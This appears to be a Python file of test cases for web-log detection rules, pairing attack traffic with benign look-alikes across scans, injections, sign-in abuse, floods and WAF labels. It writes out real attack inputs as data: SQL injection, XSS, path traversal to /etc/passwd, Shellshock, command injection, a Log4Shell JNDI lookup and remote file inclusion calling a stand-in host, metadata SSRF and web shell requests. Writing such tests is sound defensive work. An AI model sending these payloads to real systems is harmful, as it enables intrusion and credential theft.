"""The web rules: both sides of each. The same rules serve every log of requests."""

from __future__ import annotations

from . import forgery
from .cases import Case, series
from .weblogs import FIREFOX, VISITOR, balancer, line, waf

MANAGED = "awswaf:managed:aws:"
KEYS = ("/.env", "/.aws/credentials", "/.git/config", "/backup.sql", "/web.config", "/id_rsa")
WORDPRESS = ("/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-json/wp/v2/posts", "/wp-cron.php")
WORDPRESS_PAGES = (
    *(
        "/wp-login.php",
        "/wp-admin/",
        "/wp-admin/post.php?post=12&action=edit",
        "/wp-json/wp/v2/posts",
    ),
    *(
        "/wp-admin/admin-ajax.php",
        "/wp-content/uploads/a.jpg",
        "/wp-includes/js/jquery/jquery.min.js",
    ),
)
"""What an editor asks for, and gets."""
DATABASE_PAGES = ("/phpmyadmin/", "/pma/", "/mysqladmin/", "/adminer.php")
INJECTION = "/products?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
INJECTION_TWICE = "/products?id=1%2527%2520OR%2520%25271%2527%253D%25271"


def _asked(paths: tuple[str, ...], status: int = 404) -> list[bytes]:
    return [line(path, at=3 * n, status=status) for n, path in enumerate(paths)]


SCANNERS = (
    Case(
        "Scans for WordPress",
        _asked(WORDPRESS),
        [
            *_asked(WORDPRESS[:2]),
            *_asked((*WORDPRESS, *WORDPRESS_PAGES), 200),
            *(map(waf, WORDPRESS_PAGES)),
        ],
    ),
    Case(
        "WordPress set-up or user list requested",
        [line("/wp-config.php.bak"), waf("/wp-json/wp/v2/users")],
        [line("/wp-login.php"), line("/blog/?author=anna")],
    ),
    Case(
        "Database admin page requested",
        [balancer("/phpMyAdmin/index.php")],
        [line("/products/lamp"), line("/pmap")],
    ),
    Case("Scans for phpMyAdmin", _asked(DATABASE_PAGES), _asked(("/pma/",) * 6)),
    Case(
        "Environment or credential file requested",
        [line("/.env.production"), waf("/%2eaws/credentials")],
        [line("/environment"), line("/products/env")],
    ),
    Case(
        "Environment or credential file served",
        [line("/.env", status=200, size=812)],
        [line("/.env", status=404), line("/products", status=200)],
    ),
    Case(
        "Credential file request passed the WAF",
        [waf("/.env.backup")],
        [waf("/.env.backup", action="BLOCK"), line("/.env.backup", status=200)],
    ),
    Case(
        "Git or other repository data requested",
        [line("/.git/HEAD"), line("/shop/.svn/entries")],
        [line("/team/orders.git/info/refs?service=git-upload-pack"), line("/gitlab/")],
    ),
    Case(
        "Backup, dump or archive requested",
        [line("/index.php.bak"), line("/get?file=shop.sql.gz")],
        [line("/downloads/manual.pdf"), line("/sql-course")],
    ),
    Case(
        "Configuration or build file requested",
        [line("/config.prod.php"), line("/docker-compose.yml")],
        [line("/config.json"), line("/configure-your-desk"), line("/static/app.js")],
    ),
    Case(
        "Hidden file requested",
        [line("/.vscode/sftp"), line("/get?page=.bash_history")],
        [line("/.well-known/security.txt"), line("/a/../b"), line("/price?max=.5")],
    ),
    Case(
        "Admin, debug or appliance page requested",
        [line("/actuator/heapdump"), line("/solr/admin/info/system")],
        [line("/account"), line("/admin")],
    ),
    Case(
        "Scans for secrets, backups and admin pages",
        _asked(KEYS),
        [*_asked(KEYS[:3]), *_asked(("/.env",) * 20)],
    ),
    Case(
        "Probes many paths that do not exist",
        series(25, lambda n: line(f"/word{n}", at=n)),
        [
            *series(25, lambda n: line(f"/word{n}", at=n, status=200)),
            *series(40, lambda n: line("/favicon.ico", at=n)),
        ],
    ),
    Case(
        "Attack tool's user agent",
        [line("/", agent="sqlmap/1.8.2#stable (https://sqlmap.example.org)")],
        [line("/", agent=FIREFOX), line("/", agent="curl/8.5.0"), line("/nikto-lamp")],
    ),
)

INJECTIONS = (
    Case(
        "SQL injection",
        [line(INJECTION), waf(INJECTION_TWICE), line("/p?id=1%20AND%20SLEEP(5)")],
        [
            line("/search?q=select%20oak%20table%20from%20sweden"),
            line("/search?q=union%20jack%20cushion"),
            line("/search?q=o'neill"),
            line("/search?q=salt+and+pepper+or+chili&page=1"),
            line("/search?q=order+by+phone"),
            line("/items?sort=price&order=asc&select=name,price"),
        ],
    ),
    Case(
        "SQL function in a value",
        [line("/foo?a=substr%28"), line("/foo?a=%7c%7cchr%2865%29")],
        [line("/foo?a=substring"), line("/foo?q=md5+hash")],
    ),
    Case(
        "SQL injection in series",
        series(12, lambda n: line(INJECTION, at=n)),
        series(5, lambda n: line(INJECTION, at=n)),
    ),
    Case(
        "SQL injection answered with an error",
        [line(INJECTION, status=500)],
        [line(INJECTION, status=404), line("/products?id=1", status=500)],
    ),
    Case(
        "Cross-site scripting",
        [
            line("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            waf("/search?q=%253Cimg%2520src%3Dx%2520onerror%253Dalert(1)%253E"),
        ],
        [line("/search?q=script"), line("/search?q=a%3Cb"), line("/search?online=1&price%3C5")],
    ),
    Case(
        "Path traversal",
        [
            line("/get?file=../../../etc/passwd"),
            waf("/static/..%252f..%252f..%252fetc/passwd"),
            line("/get?arg=..%5Cpineapple"),
        ],
        [line("/get/foo../1234"), line("/get/..foo"), line("/get/.."), line("/v1...v2")],
    ),
    Case(
        "Path traversal in a header",
        [waf("/get", headers=(("X-File", "/../../../../etc/master.passwd"),))],
        [
            waf("/get", headers=(("X-File", "../picture.png"),)),
            line("/get?file=a..b"),
            line("/get?file=../../../etc/passwd"),
            waf("/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        ],
    ),
    Case(
        "Shellshock",
        [line("/", agent="() { :;}; /bin/bash -c id")],
        [line("/", agent="curl/8.5.0 (linux)")],
    ),
    Case(
        "System file requested",
        [line("/get?file=%2Fetc%2Fpasswd"), line("/", agent="cat /root/.aws/credentials")],
        [line("/etching"), line("/proceedings/self-help"), line("/", agent=FIREFOX)],
    ),
    Case(
        "System path in a request",
        [line("/get?test=/sys/class"), line("/get?code=%3E/tmp/curl")],
        [line("/get?code=%3E/tmp"), line("/systems"), line("/temp/")],
    ),
    Case(
        "Command injection",
        [
            line("/ping?host=127.0.0.1;cat%20/etc/hosts"),
            waf("/ping?host=127.0.0.1%257Cid"),
        ],
        [line("/search?q=cat;dog"), line("/search?q=id|name"), line("/a;jsessionid=1")],
    ),
    Case(
        "Template injection",
        [line("/hello?name=%7B%7B7*7%7D%7D"), waf("/hello?name=%24%7B31337*31337%7D")],
        [line("/hello?name=%7Bname%7D"), line("/search?q=7*7")],
    ),
    Case(
        "JNDI lookup (Log4Shell)",
        [line("/", agent="${jndi:ldap://203.0.113.91/a}"), waf("/?x=$%7Bjndi:dns://x%7D")],
        [line("/jndi"), line("/?x=${name}")],
    ),
    Case(
        "PHP code or wrapper in a request",
        [line("/?page=php://filter/convert.base64-encode/resource=index")],
        [line("/?page=index.php"), line("/php/filter")],
    ),
    Case(
        "Remote file inclusion",
        [line("/main.php?dir=http://203.0.113.91/x.txt%3F%3F")],
        [line("/go?to=https://www.example.com/lamps"), line("/go?to=//www.example.com/a.jpg")],
    ),
    Case(
        "Request for the instance metadata",
        [line("/fetch?url=http://169.254.169.254/latest/meta-data/")],
        [line("/fetch?url=http://192.0.2.1/latest/news")],
    ),
    Case(
        "Web shell requested",
        [line("/uploads/c99.php"), line("/x.php?cmd=whoami")],
        [line("/seashell.php"), line("/x.php?cmd=idea")],
    ),
)


def _sign_in(status: int, at: float = 0, ip: str = "203.0.113.99") -> bytes:
    return line("/login", method="POST", status=status, at=at, ip=ip)


LOGINS = (
    Case(
        "Sign-in form hammered from one address",
        series(35, lambda n: _sign_in(200, 5 * n)),
        [
            *series(12, lambda n: _sign_in(200, 5 * n)),
            *series(40, lambda n: line("/login", at=5 * n)),
            *series(40, lambda n: line("/api/token", method="POST", status=200, at=5 * n)),
            *series(40, lambda n: line("/api/authors", method="POST", status=422, at=5 * n)),
        ],
    ),
    Case(
        "Sign-ins refused in series",
        series(18, lambda n: _sign_in(401, 5 * n)),
        [*series(6, lambda n: _sign_in(401, 5 * n)), *series(20, lambda n: _sign_in(302, 5 * n))],
    ),
    Case(
        "Many addresses fail at one sign-in form",
        series(45, lambda n: _sign_in(401, 2 * n, f"198.51.100.{n}")),
        series(45, lambda n: _sign_in(401, 2 * n, f"198.51.100.{n % 9}")),
    ),
    Case(
        "Sign-in after many refusals",
        [*series(18, lambda n: _sign_in(401, 5 * n)), _sign_in(302, 100)],
        [_sign_in(302), *series(18, lambda n: _sign_in(401, 5 + 5 * n))],
    ),
)

FLOODS = (
    Case(
        "HTTP flood from one address",
        series(400, lambda n: line("/", at=n // 10, status=503)),
        [
            *series(400, lambda n: line("/", at=n // 10, status=200)),
            *series(400, lambda n: line("/", at=n // 2, status=503)),
        ],
    ),
    Case(
        "Flood from many addresses",
        series(120, lambda n: line("/", ip=f"198.51.100.{n}", at=n // 3, status=429)),
        [
            *series(120, lambda n: line("/", ip=f"198.51.100.{n % 50}", at=n // 3, status=429)),
            *series(120, lambda n: line("/", ip=f"198.51.100.{n}", at=n // 3, status=200)),
        ],
    ),
)
WAF = (
    Case(
        "WAF blocks in series",
        series(25, lambda n: waf("/", at=n, action="BLOCK")),
        [
            *series(8, lambda n: waf("/", at=n, action="BLOCK")),
            *series(40, lambda n: waf("/", at=n)),
        ],
    ),
    Case(
        "WAF rate limit reached",
        [waf("/", action="BLOCK", rule="throttle", kind="RATE_BASED")],
        [waf("/", action="BLOCK", rule="office-only"), waf("/")],
    ),
    Case(
        "WAF saw an attack and let it through",
        [waf("/", labels=(f"{MANAGED}admin-protection:AdminProtection_URIPath",))],
        [
            waf("/", action="BLOCK", labels=(f"{MANAGED}sql-database:SQLi_QueryArguments",)),
            waf("/", labels=(f"{MANAGED}bot-control:bot:verified",)),
        ],
    ),
    Case(
        "WAF label: exploit of a known hole",
        [
            waf("/", action="BLOCK", labels=(f"{MANAGED}known-bad-inputs:Log4JRCE_Header",)),
            waf("/", action="BLOCK", rule="ReactJSRCE_BODY"),
        ],
        [waf("/", action="BLOCK", labels=(f"{MANAGED}core-rule-set:SizeRestrictions_Body",))],
    ),
    Case(
        "WAF label: attack on an application",
        [waf("/", action="BLOCK", labels=(f"{MANAGED}sql-database:SQLi_QueryArguments",))],
        [waf("/", action="BLOCK", labels=(f"{MANAGED}core-rule-set:SizeRestrictions_Body",))],
    ),
    Case(
        "WAF label: stolen or guessed credentials",
        [waf("/login", labels=(f"{MANAGED}atp:signal:credential_compromised",))],
        [waf("/login", labels=("awswaf:managed:token:accepted",))],
    ),
    Case(
        "WAF label: bot or bad address",
        [waf("/", labels=(f"{MANAGED}amazon-ip-list:AWSManagedIPReputationList",))],
        [waf("/", ip=VISITOR, labels=("awswaf:clientip:geo:country:NL",))],
    ),
)

CASES = (*SCANNERS, *INJECTIONS, *forgery.CASES, *LOGINS, *FLOODS, *WAF)
